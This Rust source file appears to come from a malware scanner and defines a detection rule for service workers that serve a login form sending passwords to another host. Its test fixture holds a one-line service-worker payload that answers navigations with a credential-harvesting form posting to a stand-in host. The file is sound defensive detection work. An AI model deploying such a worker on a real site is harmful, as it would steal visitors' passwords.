//! `worker-shows-login`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "worker-shows-login",
    description: "A service worker shows a form on this site that sends the password to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::WorkerFetch]), one(&[Atom::LoginMarkup])],
    within: 160,
    only_if: Some(answers),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "self.addEventListener('fetch',e=>{if(e.request.mode==='navigate')e.respondWith(new Response('<form action=\"https://c.example/l\" method=\"post\"><input name=\"u\"><input type=\"password\" name=\"p\"></form>',{headers:{'Content-Type':'text/html'}}))})",
        ],
        without: &[
            "self.addEventListener('fetch',e=>{e.respondWith(fetch(e.request).catch(()=>new Response('<h1>Offline</h1>',{headers:{'Content-Type':'text/html'}})))})",
            "self.addEventListener('fetch',e=>{e.respondWith(new Response('<form action=\"/login\" method=\"post\"><input type=\"password\" name=\"p\"></form>'))})",
        ],
    },
};

fn answers(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 30);
    near.has_word(&["respondWith"]) && near.has_word(&["Response"])
}
